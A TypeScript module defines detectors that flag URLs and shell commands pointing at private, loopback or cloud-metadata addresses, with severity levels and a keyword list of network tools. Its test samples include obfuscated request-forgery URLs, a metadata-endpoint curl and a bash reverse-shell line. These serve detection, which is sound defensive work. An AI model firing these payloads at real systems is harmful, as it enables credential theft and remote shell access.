// Lists the detectors of network addresses.

import type { Finding, PatternDetector, Severity } from '../detector.js';
import type { FunctionDetector } from '../function-detector.js';
import { findHostsInCommands } from './bare-hosts.js';
import { findWithPunctuation } from './find-network-addresses.js';
import { reservedNames } from './host-names.js';
import type { NonPublicReason } from './ip-address.js';
import { addressSigns, mayBeAddress } from './may-be-address.js';
import type { NetworkAddress } from './network-address.js';
import { forbiddenSchemes } from './schemes.js';

export { classifyHost } from './classify-host.js';
export { findNetworkAddresses } from './find-network-addresses.js';
export type { NonPublicReason } from './ip-address.js';
export type { NetworkAddress } from './network-address.js';

export const egressDetectors: readonly PatternDetector[] = [];

const SEVERITY: Readonly<Record<NonPublicReason, Severity>> = {
  metadata: 'critical',
  loopback: 'high',
  private: 'high',
  'link-local': 'high',
  shared: 'high',
  unspecified: 'high',
  'internal-name': 'high',
  'rebinding-name': 'high',
  scheme: 'high',
  multicast: 'medium',
  reserved: 'medium',
};

/**
 * Finds addresses that are not ordinary public addresses. The detector name of a finding is the reason, so that a
 * policy can distinguish the reasons.
 */
const destinations: FunctionDetector = {
  name: 'destinations',
  kind: 'egress',
  prefilterLiterals: [...forbiddenSchemes.map((scheme) => `${scheme}:`), ...reservedNames],
  prefilterPattern: { literals: addressSigns, pattern: mayBeAddress },
  // Literals that every URL, and every host with a port or a path, contains.
  literals: [
    ...[':/', ':\\', ':[', ':%', ':localhost', 'http:', 'https:', '%3a%2f', '%3a%5c', '%2f%2f', '%5c%5c'],
    ...['//', 'localhost', ']:', ']/', '.0x', ...'0123456789'].flatMap((sign) =>
      sign.length === 1 ? [`${sign}:`, `${sign}/`] : [sign],
    ),
  ],
  windowRadius: 64,
  find: (text, from, to) => toFindings(findWithPunctuation(text, from, to)),
  samples: {
    hit: [
      'http://127.0.0.1/',
      'http://0x7f.1/',
      'http://2130706433/',
      'http://[::ffff:10.0.0.5]/',
      'http://①②⑦.⓪.⓪.①/',
      'http://%31%30%2e%30%2e%30%2e%35/',
      'http://localhost./',
      'http://example.com@127.0.0.1/',
      'http://example.com\\@127.0.0.1/',
      'http://metadata.google.internal/',
      'http://10.0.0.5.nip.io/',
      'gopher://example.com/_x',
      'curl 169.254.169.254/latest/meta-data/',
      'https://example.com/?next=http://10.0.0.1/',
      'https://example.com/redirect?to=//169.254.169.254/',
      'http://0127.0.0.1/',
      'http://127.0.0.1%00.example.com/',
      'http://consul.service.consul/',
      'http://unix:/var/run/docker.sock:/info',
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'http:127.0.0.1/x',
      'see 1http://10.0.0.1/',
      '<img src="//10.0.0.1/x.png">',
    ],
    miss: [
      'http://127.0.0.1@example.com/',
      'http://example.com#@127.0.0.1/',
      'http://127.0.0.1.example.com/',
      'http://8.8.8.8/',
      'http://example.com/?u=10.0.0.1',
      'upgrade the driver to 10.4.2.1 please',
      'build 192.168.0 failed',
      'route 10.0.0.0/8 to the tunnel',
    ],
  },
};

/** Finds hosts without a port or path after a command that connects. */
const commandDestinations: FunctionDetector = {
  name: 'command-destinations',
  kind: 'egress',
  literals: [
    ...['curl', 'wget', 'nc ', 'ncat', 'netcat', 'telnet', 'ssh ', 'scp ', 'sftp', 'ping ', 'nmap', 'http '],
    ...['https ', 'xh ', 'rsync', 'socat', 'dig ', 'nslookup'],
  ],
  windowRadius: 320,
  prefilterPattern: {
    literals: ['.0', '[', 'localhost', 'metadata'],
    pattern:
      /(?:^|[\s;&|($`/])(?:curl|wget|nc|ncat|netcat|telnet|ssh|scp|sftp|ping|nmap|https?|xh|rsync|socat|dig|nslookup)\s/,
  },
  find: (text, from, to) => toFindings([...findHostsInCommands(text, from, to)]),
  samples: {
    hit: ['ping -c1 10.0.0.5', 'run: ssh -p 22 localhost', 'nslookup metadata.google.internal'],
    miss: ['ping 8.8.8.8', 'shopping 10.0.0.5', 'the address 10.0.0.5 is private'],
  },
};

const toFindings = (found: readonly NetworkAddress[]): Finding[] =>
  found.flatMap(({ start, end, reason }) =>
    reason === undefined ? [] : { kind: 'egress', detector: reason, severity: SEVERITY[reason], start, end },
  );

export const egressFunctionDetectors: readonly FunctionDetector[] = [destinations, commandDestinations];
